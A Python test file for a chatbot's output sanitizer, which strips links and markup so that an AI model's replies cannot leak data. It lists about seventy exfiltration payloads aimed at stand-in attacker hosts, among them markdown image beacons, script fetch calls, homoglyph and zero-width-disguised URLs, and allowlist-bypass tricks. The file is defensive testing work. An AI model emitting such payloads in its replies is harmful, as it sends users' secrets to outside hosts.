"""What a model's reply may hold: text and listed links. Fifty ways around that, and prose that must stay."""

import re
from typing import Any, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relevo.bootstrap import load_teams
from relevo.domain.ids import AgentName
from relevo.pipeline.egress import Preview, clean
from relevo.pipeline.state import TurnContext

SOMEBODY = load_teams(None)["music"].agents[AgentName("sales")]
LISTED = ("artists.spotify.com", "musixmatch.com")

ATTACKS = [
    "![x](https://evil.example/?d=SECRET)",
    "![](https://evil.example/SECRET.png)",
    "![x][r]\n\n[r]: https://evil.example/?d=SECRET",
    "[x][r]\n[r]: <https://evil.example/?d=SECRET>",
    "[click](https://evil.example/?d=SECRET)",
    "[click](<https://evil.example/?d=SECRET>)",
    '[click](https://evil.example/?d=SECRET "title")',
    "[![x](https://evil.example/SECRET.png)](https://evil.example/SECRET)",
    "[a [nested] text](https://evil.example/?d=SECRET)",
    "<https://evil.example/?d=SECRET>",
    '<img src="https://evil.example/?d=SECRET">',
    "<img src=//evil.example/SECRET.png>",
    "<img src=//evil.example/SECRET.png",
    "<a href='https://evil.example/?d=SECRET'>x</a>",
    "<<b>img src=https://evil.example/SECRET>",
    "<script>fetch('https://evil.example/?d=SECRET')</script>",
    '<svg/onload="fetch(`//evil.example/SECRET`)">',
    "<style>@import 'https://evil.example/SECRET.css';</style>",
    "https://evil.example/?d=SECRET",
    "HTTPS://EVIL.EXAMPLE/?d=SECRET",
    "xhttps://evil.example/?d=SECRET",
    "https:/evil.example/?d=SECRET",
    "https:evil.example/?d=SECRET",
    "https:\\\\evil.example\\SECRET",
    "//evil.example/?d=SECRET",
    "\\\\evil.example\\SECRET",
    "www.evil.example/?d=SECRET",
    "evil.example/?d=SECRET",
    "evil.com",
    "SECRET.evil.com",
    "evil.co.uk:8080/SECRET",
    "203.0.113.7/SECRET",
    "http://2130706433/SECRET",
    "http://[::1]/SECRET",
    "http://[::1",
    "ftp://evil.example/SECRET",
    "data:text/html,<script>SECRET</script>",
    "javascript:alert('SECRET')",
    "mailto:a@evil.example?body=SECRET",
    "whatsapp://send?text=SECRET",
    "https://artists.spotify.com@evil.example/?d=SECRET",
    "https://artists.spotify.com.evil.example/?d=SECRET",
    "https://artists.spotify.com\\@evil.example/?d=SECRET",
    "https://evil.example/https://artists.spotify.com",
    "http://artists.spotify.com/?d=SECRET",
    "https://artists.spotify.com:8443/SECRET",
    "ht[x](y)tps://evil.example/?d=SECRET",
    "https://evil\u200b.example/?d=SECRET",
    "ht\u00adtps://evil.example/?d=SECRET",
    "ｈｔｔｐｓ://evil.example/?d=SECRET",
    "evil。com/SECRET",
    "evil．example／SECRET",
    "https://xn--vil-qma.example/SECRET",
    "https://еvil.example/SECRET",
    "aquí...evil.com/ana?saldo=SECRET",
    "ana-182-40.evil.tech",
    "mi-banco-evil.ec",
    "evil.com.py",
    "evil.ninja",
    "evil.xn--p1ai/pay?d=SECRET",
    "evil.xn--p1ai",
    "evil.tech./SECRET?d=1",
    "@evil.com/x?d=SECRET",
    "ana@evil.com/x?d=SECRET",
    "evil\u200d.com/SECRET",
    "evil\u200c.com/SECRET",
    "evil\u180e.com/SECRET",
    "bitcoin:evilSECRET",
    "𝐞𝐯𝐢𝐥.com/SECRET",
    "ⓔⓥⓘⓛ.com/SECRET",
    "evil․com/SECRET",
]

LEAK = re.compile(r"evil|:/|//|\\\\|www\.|!\[|\]\([^)]|<\w|203\.0|2130706433|\[::1", re.IGNORECASE)

PROSE = [
    "El plan Pro cuesta 49.99 USD al mes; el Label, 99.99.",
    "Son 1.234.567,89 USD. ¿Los retiramos?",
    "De 9:00 a 18:00, de lunes a viernes: escríbenos.",
    "Opciones: a) Pro, b) Label [el más grande] (con todo).",
    "Tu código es MXABC2600001 y/o el UPC 750100000010.",
    "Si x < y y además y > z, entonces x <= z. Te queremos <3",
    "Artista: Ana Luz. Título:Luz de Enero",
    "Te escribimos a ana.torres@gmail.com en cuanto esté.",
    "1. Primero\n2. Segundo\n- tercero *con énfasis* y `código`",
    "Disponible en https://artists.spotify.com/team y en musixmatch.com/pro",
    "Mira [Spotify for Artists](https://artists.spotify.com/c/access).",
    "24/7, 3/4 de las regalías; 50% & más… ¡listo! 👩‍👩‍👧 🇲🇽",
    "Versión 1.2.3, ISRC MX-ABC-26-00001.",
    "C:sí; D:no. Nota: todo en orden",
    "El archivo es tema.wav, no tema.mp3... ¿Seguimos?",
    "Fin de la frase.Nos vemos mañana.",
    "1.º de mayo, 2ª parte, 3² y ½.",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "Claro: {} ¿algo más?", "Hola\n{}\nadiós", "({})", "**{}**", "«{}»"]
)
def test_no_address_leaves(attack: str, around: str) -> None:
    text = clean(around.format(attack), LISTED)
    assert not re.search(
        r"evil|:/|//|\\\\|www\.|!\[|\]\([^)]|<\w|203\.0|2130706433|\[::1", text, re.IGNORECASE
    ), text
    assert clean(text, LISTED) == text


@pytest.mark.parametrize("prose", PROSE)
def test_prose_and_listed_links_stay_as_they_are(prose: str) -> None:
    assert clean(prose, LISTED) == prose


def test_a_link_that_is_taken_out_leaves_its_words() -> None:
    assert (
        clean("Entra [en tu panel](https://evil.example/x) y listo.", LISTED) == "Entra en tu panel y listo."
    )


def test_invisible_text_does_not_leave() -> None:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "SECRET")
    assert clean(f"Ho\u200bl\x00a\ud83d{hidden}\u202e\x1b", LISTED) == "Hola"


@given(st.text(alphabet=st.sampled_from("ab.:/\\[]()!<>@ #?\n\u200bｈhtps"), max_size=80))
def test_no_text_breaks_it_and_twice_is_once(text: str) -> None:
    once = clean(text, LISTED)
    assert clean(once, LISTED) == once


@pytest.mark.parametrize(
    "unit", ["![", "[", "<a", "a.", "http", "a:", "//", "[x](", "<" * 10, "\\", "a-", "<b>", "a@a.", "<<b>b"]
)
def test_a_long_text_made_to_be_slow_comes_through(unit: str) -> None:
    """Fails by the test's own time limit."""
    assert len(clean(unit * 4_000, LISTED)) <= len(unit) * 4_000
    assert len(clean(f"{unit} " * 4_000, LISTED)) <= 20_000


def test_nested_markup_ends_as_plain_text() -> None:
    assert "<" not in clean("<" * 3_000 + "b>" * 3_000, LISTED)


class Watched:
    """What a preview publishes."""

    def __init__(self) -> None:
        self.events: list[tuple[str, dict[str, Any]]] = []
        self.engine = self
        self.team = self
        self.links = LISTED

    def publish(self, kind: str, /, **data: Any) -> None:
        self.events.append((kind, data))

    @property
    def turn(self) -> TurnContext:
        return cast("TurnContext", self)

    @property
    def text(self) -> str:
        return "".join(data["text"] for kind, data in self.events if kind == "delta")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_no_address_leaves_in_a_preview(attack: str, size: int) -> None:
    watched = Watched()
    preview = Preview(watched.turn, SOMEBODY)
    text = f"Claro: {attack} ¿algo más? sí "
    for start in range(0, len(text), size):
        preview.add(text[start : start + size])
    assert not re.search(r"evil|://|www\.|203\.0|2130706433|\[::1", watched.text, re.IGNORECASE)


def test_a_preview_shows_words_as_they_come() -> None:
    watched = Watched()
    preview = Preview(watched.turn, SOMEBODY)
    for piece in ("El plan ", "Pro cuesta", " 49.99 USD al mes. ", "¿Te ayudo "):
        preview.add(piece)
    assert watched.text == "El plan Pro cuesta 49.99 USD al mes. ¿Te ayudo "


def test_a_withdrawn_preview_says_so_once() -> None:
    watched = Watched()
    preview = Preview(watched.turn, SOMEBODY)
    preview.add("uno ")
    preview.add("")
    preview.withdraw()
    assert [kind for kind, _ in watched.events] == ["delta", "reset"]
